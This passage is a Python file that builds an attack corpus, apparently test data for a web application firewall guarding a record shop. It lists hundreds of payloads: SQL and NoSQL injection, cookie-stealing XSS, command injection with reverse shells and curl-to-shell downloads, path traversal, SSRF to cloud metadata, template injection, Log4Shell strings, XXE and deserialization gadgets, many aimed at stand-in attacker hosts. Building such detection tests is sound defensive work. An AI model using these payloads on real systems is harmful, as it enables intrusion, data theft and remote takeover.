#!/usr/bin/env python3
"""Attack corpus for the vinylshop held-out WAF test (hand-written)."""
import json
import os
import random

SEED = 36202
HERE = os.path.dirname(os.path.abspath(__file__))

A = []


def add(cat, cls, *vals):
    for v in vals:
        A.append((cat, cls, v))


# ---------------- sqli ----------------
add("sqli", "union", 
    "kind of blue' UNION SELECT username, password_hash, NULL FROM staff_users-- -",
    "miles davis' union all select null,concat(email,0x3a,pw),null,null from customers#",
    "1959') UNION SELECT card_last4, card_token, 3, 4 FROM payments WHERE ('1'='1",
    "blue note 1500\" union select table_name,2,3 from information_schema.tables-- ",
    "0 UNION SELECT group_concat(column_name),2 FROM information_schema.columns WHERE table_name='orders'",
    "sleep dopesmoker%' UNION SELECT discogs_token,NULL FROM shop_settings -- x",
    "-1 UniOn SeLeCt 1,version(),user(),database()",
    "x'/**/UNION/**/SELECT/**/name,sql/**/FROM/**/sqlite_master--",
    "can tago mago' uNiOn/*!50000SeLeCt*/ 1,@@version,3-- -",
    "joy division')) union select login,passwd from admin_users limit 1 offset 0--",
    "999999 union(select(api_key),(2)from(integrations))",
    "neu!' UNION SELECT 1,LOAD_FILE('/etc/passwd'),3-- ",
)
add("sqli", "boolean",
    "fela kuti' OR '1'='1",
    "o'connor' or 1=1-- ",
    "VG+' AND 1=1 AND 'x'='x",
    "4471 OR 1=1",
    "ILPS 9184' AND substring((select password from staff_users limit 1),1,1)='a'-- ",
    "ECM' AND ascii(substr((SELECT api_key FROM integrations),1,1))>77-- -",
    "admin'--",
    "dee@shop.example' or 'a'='a",
    "' OR 'vinyl' LIKE 'v%",
    "x' || (SELECT CASE WHEN (1=1) THEN 'a' ELSE 'b' END) || '",
    "2 AND (SELECT COUNT(*) FROM staff_users WHERE role='owner')>0",
    "tr-2024-0087' aNd 2>1 aNd 'z'='z",
    "sade' OR 2 BETWEEN 1 AND 3-- ",
    "kraftwerk'or'x'='x",
)
add("sqli", "time-blind",
    "blue note' AND SLEEP(6)-- ",
    "1 AND (SELECT 4821 FROM (SELECT(SLEEP(7)))abc)",
    "miles'; SELECT pg_sleep(9);-- ",
    "VG'; WAITFOR DELAY '0:0:8'--",
    "x' AND IF(SUBSTRING(user(),1,1)='r',BENCHMARK(9000000,MD5('vinyl')),0)-- ",
    "10442) AND 3311=(SELECT 3311 FROM PG_SLEEP(5))-- ",
    "dopesmoker' || (select case when (1=1) then pg_sleep(4) else pg_sleep(0) end)-- ",
    "abbey road' AND randomblob(300000000)-- ",
    "x'XOR(if(now()=sysdate(),sleep(5),0))XOR'z",
    "1;DECLARE @x varchar(8);SET @x='0:0:7';WAITFOR DELAY @x--",
)
add("sqli", "error-based",
    "tom waits' AND extractvalue(1,concat(0x7e,(select database()),0x7e))-- ",
    "1 AND updatexml(1,concat(0x5c,(SELECT password FROM staff_users LIMIT 1)),1)",
    "x' AND 1=CONVERT(int,(SELECT TOP 1 email FROM customers))--",
    "can' AND 7=CAST((SELECT string_agg(email,',') FROM customers) AS int)-- ",
    "1' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT((SELECT user()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- ",
    "4AD' AND 1=(select 1/0 from dual where 1=ctxsys.drithsx.sn(1,(select user from dual)))--",
    "neu' and exp(~(select * from (select version())x))-- ",
)
add("sqli", "stacked",
    "Kind of Blue'; DROP TABLE listings;-- ",
    "1; UPDATE customers SET store_credit=9999 WHERE id=4471;--",
    "x'); INSERT INTO staff_users(login,pw,role) VALUES('ghost','x','owner');-- ",
    "VG+'; DELETE FROM want_lists WHERE 1=1; --",
    "10588; EXEC xp_cmdshell 'whoami';--",
    "abc'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/s|sh';--",
    "x'; ALTER USER shop WITH PASSWORD 'pwned';--",
    "trade'; CREATE TABLE x AS SELECT * FROM payments; --",
    "1;SELECT * INTO OUTFILE '/var/www/html/s.php' LINES TERMINATED BY 0x3c3f7068702073797374656d28245f4745545b2763275d293b203f3e-- ",
)
add("sqli", "order-by-injection",
    "price,(SELECT CASE WHEN (SELECT substr(pw,1,1) FROM staff_users LIMIT 1)='a' THEN artist ELSE title END)",
    "date_added DESC, IF(1=1,SLEEP(3),0)",
    "artist ASC;SELECT pg_sleep(6)--",
    "(CASE WHEN (ascii(substring(current_user,1,1))>100) THEN price ELSE year END)",
    "3 PROCEDURE ANALYSE(extractvalue(rand(),concat(0x3a,version())),1)",
)
add("sqli", "oob",
    "x' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM staff_users LIMIT 1),'.sq.attacker.example\\\\a'))-- ",
    "1'; EXEC master..xp_dirtree '\\\\203.0.113.44\\share';--",
    "sade' || UTL_HTTP.request('http://attacker.example/'||(select user from dual)) || '",
    "x' UNION SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://198.51.100.9/'||user||'\"> %p;]>'),'/l') FROM dual--",
)
add("sqli", "obfuscated",
    "1%27%20OR%20%271%27%3D%271",
    "blue%2527%2520or%25201%253D1--%2520",
    "x'%0aunion%0aselect%0apw,2%0afrom%0astaff_users--",
    "kind of blue\uff07 OR 1=1--",
    "1'/*vinyl*/oR/*x*/1/*y*/=/*z*/1#",
    "sleep' anD/**/0x41=0x41-- -",
    "x'+uni/**/on+sel/**/ect+1,2,3--",
    "-1' UNION%23%0ASELECT 1,password,3 FROM staff_users-- ",
    "abc' || chr(39) || (select pw from staff_users limit 1)-- ",
    "x' OR 0x31=0x31 #",
    "1' OR true-- -",
    "'=' 'or' 1",
    "x%bf%27 OR 1=1-- ",
    "zombie' %55NION %53ELECT null,pw from staff_users--",
)

# ---------------- xss ----------------
add("xss", "script-tag",
    "Great shop! <script>fetch('https://attacker.example/c?'+document.cookie)</script>",
    "Kind of Blue <SCRIPT SRC=//attacker.example/x.js></SCRIPT>",
    "5/5 <script>new Image().src='//203.0.113.7/k?'+localStorage.getItem('token')</script>",
    "<script type=module>import('//attacker.example/m.js')</script>",
    "VG+ sleeve</textarea><script>alert(document.domain)</script>",
    "Sleep</title><script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8nKQ=='))</script>",
    "<ScRiPt>/*review*/document.location='//attacker.example/?c='+document.cookie</sCrIpT>",
    "<script>\n  window.onload=()=>{document.forms[0].action='https://attacker.example/steal'}\n</script>",
    "seam split 3\"<script >top['al'+'ert'](1)</script >",
    "<scr<script>ipt>alert(7)</scr</script>ipt>",
)
add("xss", "event-handler",
    "<img src=x onerror=alert(document.cookie)> loved this record",
    "Cocteau Twins <svg onload=fetch('//attacker.example/'+document.cookie)>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=\"location='//attacker.example/?'+document.cookie\">",
    "<input autofocus onfocus=alert(origin) value='want list'>",
    "ring wear <video><source onerror=\"javascript:alert(1)\"></video>",
    "<marquee onstart=confirm(2)>RSD queue</marquee>",
    "<img src=/nope.jpg oNeRrOr=\"this.src='//attacker.example/p?'+document.cookie\">",
    "<div onmouseover=\"alert('Bjork')\" style=\"position:fixed;inset:0\">hover</div>",
    "<audio src=x onerror=import('//attacker.example/a.js')>",
    "<iframe onload=alert(document.domain) src=/records/123>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<select autofocus onfocus=alert(1)><option>VG+</option></select>",
    "<form><button formaction=javascript:alert(1)>Add to want list</button></form>",
    "<img src=x onerror=\"\\u0061lert(1)\">",
    "<svg/onload=window['ev'+'al'](atob('YWxlcnQoMSk='))>",
    "<img src=1 onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>",
    "<object data=x onerror=alert(3)></object>",
    "<a onpointerenter=alert(1)>Dopesmoker</a>",
)
add("xss", "attribute-breakout",
    "\" onmouseover=\"alert(1)\" x=\"",
    "Kind of Blue\" autofocus onfocus=\"alert(document.cookie)",
    "' onerror='alert(1)' src='x",
    "VG+\"><img src=x onerror=alert(1)>",
    "\"><svg onload=confirm(document.domain)>",
    "crate_digger\" style=\"background:url(javascript:alert(1))",
    "'-alert(1)-'",
    "\";alert(document.cookie);//",
    "</script><script>alert(1)</script>",
    "\\\";alert(1);//",
)
add("xss", "url-scheme",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<a href=\"javascript:void(fetch('//attacker.example/?'+document.cookie))\">See my collection</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">photos of the dead wax</a>",
    "[my discogs](javascript:alert(document.domain))",
    "<iframe src=\"data:text/html,<script>alert(parent.document.cookie)</script>\"></iframe>",
    "<embed src=javascript:alert(1)>",
)
add("xss", "encoded",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3csvg onload=alert(1)\\x3e",
    "＜script＞alert(1)＜/script＞",
    "%uFF1Cscript%uFF1Ealert(1)%uFF1C/script%uFF1E",
    "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>",
    "<svg><script>&#97;lert(1)</script></svg>",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
)
add("xss", "svg-mathml-mxss",
    "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>click</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    "<template><style></template><img src=x onerror=alert(1)>",
    "<xmp><p title=\"</xmp><svg onload=alert(1)>\">",
)
add("xss", "css-meta-base",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">",
    "<base href=\"https://attacker.example/\">",
    "<link rel=stylesheet href=//attacker.example/evil.css>",
    "<style>@import 'https://attacker.example/x.css';</style>",
    "<div style=\"width:expression(alert(1))\">old IE</div>",
    "<form action=https://attacker.example/phish method=post><input name=password placeholder='re-enter password'></form>",
)
add("xss", "template-client",
    "{{constructor.constructor('alert(document.cookie)')()}}",
    "{{$on.constructor('fetch(\"//attacker.example/\"+document.cookie)')()}}",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "[[${T(java.lang.Runtime)}]] <img src=x onerror=alert(1)>",
)

# ---------------- cmdi ----------------
add("cmdi", "separator",
    "cover.jpg; cat /etc/passwd",
    "IMG_4401.jpg && curl -s http://attacker.example/x.sh | sh",
    "stock-2024-06.csv | nc 203.0.113.5 4444 -e /bin/sh",
    "kind_of_blue.png; rm -rf /srv/shop/exports",
    "label.pdf || wget -qO- http://198.51.100.20/b | bash",
    "record.mp3\nid",
    "record.mp3\r\nuname -a",
    "photo.jpg;id;",
    "x & whoami",
    "x & type C:\\Windows\\win.ini",
    "abc; ping -c 9 203.0.113.9",
    "scan.tif;sleep 12;",
    "test.wav | powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "IMG_4420.jpg;/bin/busybox telnetd -p 2323 -l /bin/sh",
    "export.csv; echo c2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjgvOTAwMSAwPiYx | base64 -d | bash",
    "backup.xlsx & certutil -urlcache -split -f http://attacker.example/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe",
    "a.jpg; python3 -c 'import socket,os;s=socket.create_connection((\"203.0.113.8\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.system(\"sh\")'",
    "sleeve.png; perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(443,inet_aton(\"198.51.100.3\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\")'",
    "x; crontab -l | { cat; echo '* * * * * curl attacker.example/c|sh'; } | crontab -",
    "x; echo 'ssh-ed25519 AAAAC3NzaFAKEKEY attacker' >> ~/.ssh/authorized_keys",
    "img.jpg; tar czf - /srv/shop | curl -T - http://attacker.example/up",
    "a.jpg%0acat%20/etc/shadow",
    "a.jpg%26%26id",
    "x | php -r '$s=fsockopen(\"203.0.113.8\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
)
add("cmdi", "substitution",
    "Kind of Blue $(cat /etc/passwd)",
    "cover_`id`.jpg",
    "$(curl -fsSL http://attacker.example/s | sh)",
    "VG+ `wget -O /tmp/k http://198.51.100.7/k && chmod +x /tmp/k && /tmp/k`",
    "release_$(sleep 10).jpg",
    "${IFS}cat${IFS}/etc/passwd",
    "a;cat$IFS$9/etc/passwd",
    "$(printf '\\x69\\x64')",
    "`echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh`",
    "<(curl attacker.example/x)",
    "$(nslookup $(whoami).cmd.attacker.example)",
    "photo.jpg $(dig +short `hostname`.o.attacker.example)",
)
add("cmdi", "obfuscated",
    "x;c''at /e''tc/pa''sswd",
    "x;c\\at /et\\c/pas\\swd",
    "x;/???/c?t /???/p??s??",
    "x;ca$@t /etc/pass$@wd",
    "x;{cat,/etc/passwd}",
    "x|$'\\x63\\x61\\x74' /etc/passwd",
    "x;w$(echo h)oami",
    "x;a=ca;b=t;$a$b /etc/hostname",
    "x&&/bin/s?? -c 'id'",
    "x;${PATH:0:1}bin${PATH:0:1}id",
    "x;rev<<<'dwssap/cte/ tac'|sh",
    "x ; tr 'a-z' 'n-za-m' <<< 'png /rgp/cnffjq' | sh",
    "x%0Aw%27h%27o%27a%27m%27i",
    "x;cmd /c \"who^ami\"",
    "x & set c=who&& set d=ami&& call %c%%d%",
    "x;IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')",
)
add("cmdi", "argument-injection",
    "--output=/var/www/html/shell.php http://attacker.example/shell.txt",
    "-o /tmp/x --exec 'id'",
    "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh",
    "-oProxyCommand=curl${IFS}attacker.example/p|sh",
    "--use-compress-program='sh -c id'",
    "-e 'system(\"id\")'",
    "--upload-pack='touch /tmp/pwned' origin",
    "-exec sh -c 'curl attacker.example/$(id -u)' \\;",
    "cover.jpg -write /var/www/html/x.php",
    "--config=http://attacker.example/evil.conf",
)
add("cmdi", "imagemagick-ffmpeg",
    "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.jpg\"|curl \"attacker.example/$(id))'\npop graphic-context",
    "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:http://attacker.example/header.m3u8|file:///etc/passwd\n#EXT-X-ENDLIST",
    "|ls -la /srv/shop",
    "mvg:/tmp/x.mvg;msl:/tmp/y.msl",
    "ephemeral:/srv/shop/stock.db",
)

# ---------------- traversal ----------------
add("traversal", "dotdot",
    "../../../../etc/passwd",
    "covers/../../../../../etc/shadow",
    "..\\..\\..\\..\\windows\\win.ini",
    "kind_of_blue.jpg/../../../../proc/self/environ",
    "../../../srv/shop/.env",
    "../../../../var/log/nginx/access.log",
    "exports/../../config/database.yml",
    "IMG_4401.jpg/../../../../../root/.ssh/id_rsa",
    "../../../../../../home/shop/.bash_history",
    "..\\..\\..\\inetpub\\wwwroot\\web.config",
    "labels/../../../../../proc/self/cmdline",
    "../../app/settings.py",
    "....//....//....//etc/passwd",
    "..././..././..././etc/hosts",
    "....\\\\....\\\\....\\\\windows\\system32\\drivers\\etc\\hosts",
    "stock-2024-06.csv/../../../../../etc/group",
    "..//..//..//..//etc//passwd",
    "/./././../../../../etc/passwd",
    "../../../../../../../../../../../../etc/passwd%00.jpg",
    "cover.jpg\\..\\..\\..\\..\\boot.ini",
    "../.git/config",
    "../../../../var/lib/mysql/mysql/user.MYD",
)
add("traversal", "absolute",
    "/etc/passwd",
    "C:\\Windows\\System32\\config\\SAM",
    "file:///etc/passwd",
    "/proc/self/fd/3",
    "\\\\?\\C:\\Windows\\win.ini",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "php://filter/convert.base64-encode/resource=../config.php",
    "php://filter/read=string.rot13/resource=index.php",
    "zip://uploads/trade_photos.zip%23shell.php",
    "phar://uploads/cover.jpg/x.php",
    "expect://id",
)
add("traversal", "encoded",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "..%e0%80%af..%e0%80%afetc/passwd",
    "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "．．／．．／．．／etc／passwd",
    "..%2F..%2F..%2F..%2Fsrv%2Fshop%2F.env",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%255c..%255c..%255cboot.ini",
    ".%2e/.%2e/.%2e/.%2e/etc/passwd",
    "..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini",
    "%c0%2e%c0%2e%c0%afetc%c0%afpasswd",
    "..\\u002f..\\u002f..\\u002fetc\\u002fpasswd",
)

# ---------------- ssrf ----------------
add("ssrf", "cloud-metadata",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.170.2/v2/credentials",
    "https://www.discogs.com@169.254.169.254/latest/user-data",
)
add("ssrf", "alt-ip",
    "http://2852039166/latest/meta-data/",
    "http://0xA9FEA9FE/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://0x7f.0.0.1:8080/admin",
    "http://127.1/server-status",
    "http://0/admin",
    "http://[::1]:6379/",
    "http://[::ffff:127.0.0.1]/internal/orders",
    "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/",
    "http://017700000001:9200/_cat/indices",
    "http://①②⑦.⓪.⓪.①/admin",
    "http://127.0.0.1.nip.io/admin",
    "http://localtest.me:8000/debug",
    "http://0x7f000001/",
)
add("ssrf", "internal-services",
    "http://localhost:8080/actuator/env",
    "http://127.0.0.1:9200/customers/_search?q=*",
    "http://10.0.0.12:2375/containers/json",
    "http://192.168.1.1/cgi-bin/luci",
    "http://172.17.0.1:5984/_all_dbs",
    "http://redis.internal:6379/",
    "http://admin.shop.internal/users/export.csv",
    "http://127.0.0.1:15672/api/users",
    "http://kubernetes.default.svc/api/v1/namespaces/default/secrets",
    "http://consul.service.consul:8500/v1/kv/?recurse",
    "https://www.discogs.com/release/2365467#@127.0.0.1:8080/admin",
    "http://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/",
    "http://ssrf.attacker.example/rebind-to-127.0.0.1",
)
add("ssrf", "scheme-smuggling",
    "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20curl%20attacker.example%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%0D%0ASAVE",
    "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cshop%40shop.example%3E%0D%0A",
    "dict://127.0.0.1:11211/stats",
    "file:///srv/shop/.env",
    "ftp://10.0.0.5/backups/db.sql",
    "ldap://127.0.0.1:389/dc=shop,dc=internal",
    "jar:http://attacker.example/x.zip!/evil.class",
    "netdoc:///etc/passwd",
    "tftp://203.0.113.5/x",
    "gopher://10.0.0.8:3306/_%a3%00%00%01%85%a6%ff%01",
    "http://localhost%2523@attacker.example/",
    "http://attacker.example\\@127.0.0.1/",
    "http://127.0.0.1%09.attacker.example/",
    "https://attacker.example:443@10.1.2.3:8443/internal",
    "http://[::]:22/",
)

# ---------------- code ----------------
add("code", "ssti",
    "Hi {{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /srv/shop/.env').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}",
    "{{ lipsum|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('whoami')|attr('read')() }}",
    "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('id').read() }}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"cat /etc/passwd\")}",
    "#set($e=\"\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")",
    "{{= global.process.mainModule.require('child_process').execSync('id') }}",
    "<%= `id` %>",
    "<%= system('cat /etc/passwd') %>",
    "{php}echo `id`;{/php}",
    "{system('ls -la /srv/shop')}",
    "${{7*7}}{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{#with \"s\" as |string|}}{{#with (string.sub.apply 0 \"constructor\")}}{{this.constructor \"return process.mainModule.require('child_process').execSync('id')\"}}{{/with}}{{/with}}",
    "#{7*7}#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "Dear {{first_name}}, {{ _self.env.registerUndefinedFilterCallback(\"exec\") }}{{ _self.env.getFilter(\"id\") }}",
    "{{['id']|filter('system')}}",
    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
    "{{ request|attr(\"application\")|attr(\"\\x5f\\x5fglobals\\x5f\\x5f\") }}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
)
add("code", "expression-language",
    "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/x')}",
    "#{''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}",
    "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "${@java.lang.Runtime@getRuntime().exec(\"whoami\")}",
    "${pageContext.request.getSession().setAttribute(\"admin\",true)}",
    "#{session.setAttribute('role','owner')}",
    "${new javax.script.ScriptEngineManager().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}",
)
add("code", "eval-injection",
    "__import__('os').system('id')",
    "eval(compile('import os;os.system(\"curl attacker.example|sh\")','x','exec'))",
    "require('child_process').exec('nc 203.0.113.9 4444 -e /bin/sh')",
    "process.mainModule.require('fs').readFileSync('/srv/shop/.env','utf8')",
    "'; system('id'); //",
    "\".system('id').\"",
    "1;phpinfo();",
    "${@print(md5(31337))}",
    "');exec('cat /etc/passwd');//",
    "Function('return process')().mainModule.require('child_process').execSync('id')",
    "__import__('subprocess').check_output(['cat','/etc/passwd'])",
    "assert(\"system('id')\")",
)
add("code", "log4shell",
    "Kind of Blue ${jndi:ldap://attacker.example/a}",
    "${jndi:rmi://203.0.113.12:1099/Exploit}",
    "${${lower:j}ndi:${lower:l}dap://attacker.example/x}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://198.51.100.4/o}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}",
    "want list: ${jndi:ldaps://log.attacker.example:636/${sys:user.name}}",
    "${j${k8s:k5:-ND}i:ldap://attacker.example/q}",
    "$%7Bjndi:ldap://attacker.example/u%7D",
    "${jndi:${lower:L}${upper:d}ap://attacker.example/w}",
)
add("code", "prototype-pollution",
    "{\"__proto__\": {\"isAdmin\": true}}",
    "{\"constructor\": {\"prototype\": {\"role\": \"owner\"}}}",
    "__proto__[isAdmin]=true",
    "constructor[prototype][shell]=/proc/self/exe",
    "{\"grade\":\"VG+\",\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');x\"}}",
    "__proto__.NODE_OPTIONS=--require /proc/self/environ",
    "{\"__proto__\":{\"execArgv\":[\"--eval=require('child_process').execSync('curl attacker.example')\"]}}",
)
add("code", "formula-injection",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Click for grading photos\")",
    "+cmd|'/c powershell IEX(wget attacker.example/p)'!A1",
    "-2+3+cmd|' /C notepad'!'B1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://attacker.example/leak?\"&ENCODEURL(C2))",
    "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A1:A40),\"//a\")",
    "\"Miles Davis\",\"Kind Of Blue\",\"=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"!A0\"\")\",\"VG+\"",
    "Sleep;Dopesmoker;=IMPORTDATA(\"http://198.51.100.5/x\");NM",
    "\t=1+1+cmd|' /C calc'!A0",
)
add("code", "xxe",
    "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><release><title>&x;</title></release>",
    "<!DOCTYPE d [<!ENTITY % e SYSTEM \"http://attacker.example/evil.dtd\"> %e;]><discogs/>",
    "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY meta SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><listing>&meta;</listing>",
    "<!DOCTYPE x [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><x>&c;</x>",
    "<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"http://203.0.113.30/x.dtd\"><r/>",
    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///srv/shop/.env\"/>",
    "<!DOCTYPE r [<!ENTITY % f SYSTEM \"php://filter/convert.base64-encode/resource=/etc/hostname\"><!ENTITY % d SYSTEM \"http://attacker.example/d.dtd\">%d;]><r/>",
)
add("code", "deserialization",
    "O:7:\"Listing\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "a:1:{i:0;O:15:\"Monolog\\Handler\":1:{s:6:\"stream\";s:21:\"php://filter/resource\";}}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw",
    "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
    "cos\nsystem\n(S'id'\ntR.",
    "!!python/object/apply:os.system ['curl attacker.example/x|sh']",
    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example/o\",\"autoCommit\":true}",
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::DependencyList\n  specs: []",
)

# ---------------- nosqli ----------------
add("nosqli", "operator-injection",
    "{\"$ne\": null}",
    "{\"email\": \"dee@shop.example\", \"password\": {\"$ne\": \"x\"}}",
    "{\"$gt\": \"\"}",
    "password[$ne]=vinyl",
    "login[$regex]=^adm&password[$ne]=1",
    "{\"artist\": {\"$regex\": \".*\"}, \"price\": {\"$lt\": 0}}",
    "{\"username\": {\"$in\": [\"admin\", \"owner\", \"dee\"]}, \"password\": {\"$exists\": true}}",
    "{\"$or\": [{\"role\": \"owner\"}, {\"1\": \"1\"}]}",
    "token[$exists]=false",
    "{\"reset_token\": {\"$regex\": \"^a\"}}",
    "grade[$nin][]=VG",
    "{\"store_credit\": {\"$gte\": 0}, \"$comment\": \"x\"}",
    "q[$where]=sleep(5000)",
)
add("nosqli", "js-injection",
    "{\"$where\": \"this.password.match(/^a.*/)\"}",
    "'; return true; var x='",
    "sleep dopesmoker'; while(true){}; '",
    "1; return db.getCollectionNames()",
    "{\"$where\": \"function(){ sleep(6000); return true; }\"}",
    "\"||this.role=='owner'||\"",
    "0;db.customers.find().forEach(function(c){emit(c.email,c.pw)})",
)
add("nosqli", "aggregation",
    "[{\"$lookup\": {\"from\": \"staff_users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"s\"}}]",
    "{\"$expr\": {\"$function\": {\"body\": \"function(){return true}\", \"args\": [], \"lang\": \"js\"}}}",
    "{\"price\": {\"$gt\": 0}, \"$expr\": {\"$eq\": [{\"$substr\": [\"$password\", 0, 1]}, \"a\"]}}",
    "{\"$accumulator\": {\"init\": \"function(){return require('child_process')}\"}}",
    "{\"$unionWith\": \"payments\"}",
